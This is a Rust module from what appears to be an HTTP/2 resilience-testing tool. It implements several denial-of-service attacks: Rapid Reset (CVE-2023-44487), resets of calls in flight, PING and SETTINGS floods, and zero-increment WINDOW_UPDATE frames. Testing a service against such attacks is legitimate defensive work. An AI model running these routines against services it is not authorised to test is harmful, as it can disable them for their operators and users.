//! Attacks with streams and control frames.

use std::io;

use tokio::time::sleep;

use super::{CREATE, GET, STEP, Target};
use crate::support::http2::{self, END_HEADERS, frame};

/// Makes calls and resets them immediately (CVE-2023-44487): 40,000 a second in total, because
/// more would only measure the attacker.
pub(super) async fn rapid_resets(target: Target) -> io::Result<()> {
    let mut sender = target.sender().await?;
    let block = target.call(GET, &[]);
    loop {
        let mut pairs = Vec::new();
        for _ in 0..100 {
            let id = sender.next_stream_id();
            pairs.extend(frame(http2::HEADERS, END_HEADERS, id, &block));
            pairs.extend(frame(http2::RST_STREAM, 0, id, &8_u32.to_be_bytes()));
        }
        sender.send(&pairs).await?;
        target.count_step();
        sleep(STEP).await;
    }
}

/// Resets calls that the service has started to handle.
pub(super) async fn resets_of_calls_in_flight(target: Target) -> io::Result<()> {
    let mut sender = target.sender().await?;
    let block = target.call(GET, &[]);
    loop {
        let ids: Vec<_> = (0..10).map(|_| sender.next_stream_id()).collect();
        for id in &ids {
            sender.send(&frame(http2::HEADERS, END_HEADERS, *id, &block)).await?;
        }
        sleep(STEP / 2).await;
        for id in ids {
            sender.send(&frame(http2::RST_STREAM, 0, id, &8_u32.to_be_bytes())).await?;
        }
        target.count_step();
        sleep(STEP / 2).await;
    }
}

/// Sends 10,000 PING frames a second on each connection.
pub(super) async fn pings(target: Target) -> io::Result<()> {
    flood(target, &frame(http2::PING, 0, 0, &[0; 8])).await
}

/// Sends 10,000 SETTINGS frames a second on each connection.
pub(super) async fn settings(target: Target) -> io::Result<()> {
    flood(target, &http2::settings_frame(http2::INITIAL_WINDOW_SIZE, 65_535)).await
}

pub(super) async fn flood(target: Target, frame: &[u8]) -> io::Result<()> {
    let mut sender = target.sender().await?;
    loop {
        sender.send(&frame.repeat(100)).await?;
        target.count_step();
        sleep(STEP).await;
    }
}

/// Sends WINDOW_UPDATE frames with an increment of zero, an error of the stream or the
/// connection.
pub(super) async fn empty_window_updates(target: Target) -> io::Result<()> {
    let mut sender = target.sender().await?;
    let block = target.call(CREATE, &[]);
    loop {
        let id = sender.next_stream_id();
        sender.send(&frame(http2::HEADERS, END_HEADERS, id, &block)).await?;
        let of = if target.worker == 0 { 0 } else { id };
        sender.send(&frame(http2::WINDOW_UPDATE, 0, of, &[0; 4])).await?;
        target.count_step();
        sleep(STEP / 10).await;
    }
}
